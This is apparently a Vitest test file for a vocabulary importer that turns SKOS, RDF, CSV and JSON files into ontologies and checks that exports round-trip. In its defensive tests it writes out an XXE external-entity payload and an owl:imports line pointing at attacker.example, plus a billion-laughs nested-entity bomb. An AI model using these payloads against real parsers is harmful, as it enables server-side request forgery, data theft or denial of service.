import { readFileSync } from 'node:fs';
import { afterEach, describe, expect, test, vi } from 'vitest';
import type { Ontology } from '../../../../contract/index.ts';
import { draftOf, type OntologyDraft } from '../draft/ontologyDraft.ts';
import { planImport, planTerms, type ImportPlan, type OverLimit } from '../planImport.ts';
import { exportFile } from './exportFormats.ts';
import { readFile } from './readFile.ts';
import { suggestMapping } from './vocabularyTable.ts';

const folder = new URL('../../../../../test/data/vocabularies/', import.meta.url);
const textOf = (file: string) => readFileSync(new URL(file, folder), 'utf8');

interface PlanOptions {
  language?: string;
  overLimit?: OverLimit;
  /** The ontologies on the platform. */
  ontologies?: readonly Ontology[];
}

/** Returns the plan of importing a text as suggested. */
async function plan(
  text: string,
  name: string,
  { language = 'en', overLimit = 'split', ontologies = [] }: PlanOptions = {},
): Promise<ImportPlan> {
  const read = await readFile(text, { name, language });
  const table = 'table' in read ? read.table : undefined;
  const mapping = table === undefined ? [] : suggestMapping(table, language);
  return planImport(
    { read, name: table?.title ?? name, overLimit, ids: new Map<string, string>() },
    planTerms({ read, mapping, picked: undefined }),
    ontologies,
  );
}

/** A draft as the platform has it once it is imported. */
function stored(draft: OntologyDraft): Ontology {
  const { entityTypes, legalTerms, requiredFields } = draft;
  return {
    ...draft,
    entityTypes: [...entityTypes],
    legalTerms: [...legalTerms],
    requiredFields: [...requiredFields],
  };
}

const expected: readonly [file: string, language: string, name: string, terms: string[]][] = [
  [
    'schulfaecher.ttl',
    'de',
    'Schulfächer',
    [
      'Alt-Griechisch',
      'Deutsch als Zweitsprache',
      'DaZ',
      'Geografie',
      'Erdkunde',
      'Geographie',
      'MINT',
      'Chemie, Physik, Biologie',
      'Naturwissenschaften',
      'Religionslehre (islamisch)',
      'Islamischer Religionsunterricht',
    ],
  ],
  [
    'skosmos-fish.ttl',
    'en',
    'Test conceptscheme',
    ['Carp', 'Golden crucian', 'Buri', '-"special" character \\example\\'],
  ],
  ['skosmos-xl.ttl', 'en', 'skosmos-xl.ttl', ['Concept', 'Conceptual entity']],
  [
    'rda-aspect-ratio.rdf',
    'de',
    'RDA-Vokabular für Bezeichnungen eines Bildformats',
    ['Vollbild', 'gemischt'],
  ],
  [
    'rda-aspect-ratio.rdf',
    'en',
    'RDA Aspect Ratio Designation',
    ['full screen', 'mixed aspect ratio'],
  ],
  ['rda-gender.jsonld', 'fr', 'Genre RDA', ['féminin', 'inconnu']],
  [
    'language-codes.csv',
    'en',
    'language-codes.csv',
    [
      'Afar',
      'Catalan',
      'Valencian',
      'Church Slavic',
      'Old Slavonic',
      'Church Slavonic',
      'Old Bulgarian',
      'Old Church Slavonic',
      'German',
      'Greek, Modern (1453-)',
      'Spanish',
      'Castilian',
      'Bokmål, Norwegian',
      'Norwegian Bokmål',
      'Volapük',
      'Zulu',
    ],
  ],
  [
    'tdwg-orientation-de.csv',
    'de',
    'tdwg-orientation-de.csv',
    [
      'Schemenkonzept der Orientierung',
      'Vorderseite',
      'Ansicht der Vorderseite (zum Kopf oder zum Vorderende gerichtet) des Organismus',
      'seitlich/Lateralseite',
    ],
  ],
  [
    'tdwg-3d-modality.csv',
    'en',
    'tdwg-3d-modality.csv',
    ['3D modality controlled vocabulary', 'Penetrative', 'Laser', 'Confocal microscopy'],
  ],
  [
    'appliances.json',
    'en',
    'appliances.json',
    [
      'Air conditioner',
      'Air fryer',
      'HVAC',
      'Self-cleaning oven',
      'Set-n-Forget cooker',
      'Sous-vide cooker',
      'Wood-fired oven',
    ],
  ],
  [
    'lobid-libtype.ttl',
    'en',
    'Bibliothekstypen gemäß dem Sigelverzeichnis',
    [
      'Public Library for Special User Groups',
      'Mobile Library',
      'Archive ((Noble) Families)',
      "University's Departement Library, Faculty Library, Institute Library",
      'Museum (not Museum Library)',
      'Union Catalogue',
    ],
  ],
  [
    'lobid-fachgebiete.ttl',
    'en',
    'RPPD-Fachgebiete',
    [
      'Genossenschaft. Gemeinwirtschaft. Alternative Wirtschaft',
      'Nachrichtenwesen. Verkehrswesen. Fremdenverkehr, Hotel- und Gaststättengewerbe',
      'Geld, Bank, Börse',
      'Naturwissenschaft allgemein',
      'Schrift. Handschrift',
      'Informatik',
    ],
  ],
  ['accounting.txt', 'en', 'accounting.txt', textOf('accounting.txt').trim().split('\n')],
];

describe('a public vocabulary', () => {
  test.each(expected)('%s in %s becomes an ontology', async (file, language, name, terms) => {
    const { items } = await plan(textOf(file), file, { language });
    expect(items.map(({ draft, effect }) => [draft.displayName, draft.legalTerms, effect])).toEqual(
      [[name, terms, 'create']],
    );
  });

  test.each(expected)('%s in %s comes back whole from every export', async (file, language) => {
    const { items } = await plan(textOf(file), file, { language });
    const drafts = items.map(({ draft }) => draft);
    for (const format of ['json', 'csv', 'ttl'] as const) {
      const text = await exportFile(format, drafts).text();
      expect(await readFile(text, { name: `x.${format}`, language })).toEqual({ drafts });
      const again = await plan(text, `x.${format}`, { language, ontologies: drafts.map(stored) });
      expect(again.items.map(({ effect }) => effect)).toEqual(['same']);
    }
  });

  test('with a syntax error says so', async () => {
    const text = textOf('computer-sciences.txt');
    expect(await readFile(text, { name: 'x.json', language: 'en' })).toEqual({
      problem: { reason: 'notJson' },
    });
  });
});

describe('a file', () => {
  afterEach(() => vi.unstubAllGlobals());

  test('makes no request, whatever it refers to', async () => {
    const request = vi.fn(() => Promise.reject(new Error('No request may be made.')));
    vi.stubGlobal('fetch', request);
    vi.stubGlobal('XMLHttpRequest', request);
    const external = `<?xml version="1.0"?>
<!DOCTYPE rdf:RDF [<!ENTITY x SYSTEM "https://attacker.example/x"><!ENTITY lol "lol">]>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:skos="http://www.w3.org/2004/02/skos/core#">
<skos:Concept rdf:about="urn:a"><skos:prefLabel>ice</skos:prefLabel></skos:Concept></rdf:RDF>`;
    await plan(external, 'x.rdf');
    await plan(textOf('rda-gender.jsonld'), 'x.jsonld');
    await plan(
      '@prefix owl: <http://www.w3.org/2002/07/owl#> . <a> owl:imports <https://attacker.example/> .',
      'x.ttl',
    );
    expect(request).not.toHaveBeenCalled();
  });

  test('with nested entities does not grow', async () => {
    const entities = Array.from(
      { length: 20 },
      (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`,
    );
    const text = `<?xml version="1.0"?><!DOCTYPE rdf:RDF [<!ENTITY l0 "lol">${entities.join('')}]>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:skos="http://www.w3.org/2004/02/skos/core#">
<skos:Concept rdf:about="urn:a"><skos:prefLabel>&l20;</skos:prefLabel></skos:Concept></rdf:RDF>`;
    const { items } = await plan(text, 'x.rdf');
    expect(JSON.stringify(items).length).toBeLessThan(10_000);
  });

  test('with columns of SKOS is mapped by their names, and synonyms are split', async () => {
    const text =
      'uri\tprefLabel\taltLabel\tdefinition\nu:1\tcold chain\tcool chain|reefer\tKept cold.\n';
    const { items } = await plan(text, 'x.tsv');
    expect(items[0]?.draft.legalTerms).toEqual(['cold chain', 'cool chain', 'reefer']);
  });

  test('with spaces before its quotes keeps the cells whole', async () => {
    const text = 'code, term\nC1, "ice, black"\nC2, "snow ""firn"""\n';
    const { items } = await plan(text, 'x.csv');
    expect(items[0]?.draft.legalTerms).toEqual(['ice, black', 'snow "firn"']);
  });

  test('with a quote left open far below says so instead of importing its lines', async () => {
    const rows = Array.from({ length: 2000 }, (_, index) => `C${index},term ${index}`);
    const text = ['code,term', ...rows, 'C,"open'].join('\n');
    expect(await readFile(text, { name: 'x.csv', language: 'en' })).toEqual({
      problem: { reason: 'notCsv' },
    });
  });
});

describe('a JSON list that mixes texts and objects', () => {
  test('gives the terms of both, in their order', async () => {
    const text = JSON.stringify([
      { id: 7, prefLabel: 'cold chain', altLabel: ['reefer'] },
      'thaw',
      { id: 8, prefLabel: 'ice' },
      'frost',
      null,
    ]);
    const { items } = await plan(text, 'x.json');
    expect(items[0]?.draft.legalTerms).toEqual(['cold chain', 'reefer', 'thaw', 'ice', 'frost']);
  });

  test('keeps the texts in a column of their own where no column holds terms', async () => {
    const text = JSON.stringify(['a frozen lake', { count: 7 }, 'the snow line']);
    const { items } = await plan(text, 'x.json');
    expect(items[0]?.draft.legalTerms).toEqual(['a frozen lake', 'the snow line']);
  });
});

describe('a vocabulary of 600 terms', () => {
  const terms = Array.from({ length: 600 }, (_, index) => `clause ${index + 1}`);
  const text = terms.join('\n');
  const lists = async (overLimit: OverLimit) =>
    (await plan(text, 'clauses', { overLimit })).items.map(({ draft }) => draft.legalTerms);

  test('is split into three ontologies, and no term is lost', async () => {
    const { items } = await plan(text, 'clauses');
    expect(items.map(({ draft }) => [draft.ontologyId, draft.displayName])).toEqual([
      ['clauses-1', 'clauses 1'],
      ['clauses-2', 'clauses 2'],
      ['clauses-3', 'clauses 3'],
    ]);
    expect((await lists('split')).flat()).toEqual(terms);
    expect(items.every(({ problems }) => problems.length === 0)).toBe(true);
  });

  test('is cut after the first 256 where the user asks for it', async () => {
    expect(await lists('trim')).toEqual([terms.slice(0, 256)]);
    expect(await lists('pick')).toEqual([terms.slice(0, 256)]);
  });

  test('has its repeated and long terms named', async () => {
    const long = 'x'.repeat(129);
    const { planned } = await plan(`${text}\nClause  7\n${long}\n---`, 'clauses');
    expect(planned.leftOut).toEqual([
      { term: 'Clause  7', reason: 'repeated', sameAs: 'clause 7' },
      { term: long, reason: 'tooLong' },
      { term: '---', reason: 'neverMatches' },
    ]);
  });
});

test('ids that are taken are passed over', async () => {
  const read = await readFile('ice\nsnow', { name: 'x', language: 'en' });
  const taken = draftOf({
    ontologyId: 'x',
    entityTypes: [],
    legalTerms: ['a'],
    requiredFields: [],
  });
  const mapping = [{ use: 'legalTerms', separator: '' }] as const;
  const { items } = planImport(
    { read, name: 'X', overLimit: 'split', ids: new Map() },
    planTerms({ read, mapping, picked: undefined }),
    [{ ...taken, entityTypes: [], legalTerms: ['a'], requiredFields: [] }],
  );
  expect(items.map(({ draft }) => draft.ontologyId)).toEqual(['x-2']);
});
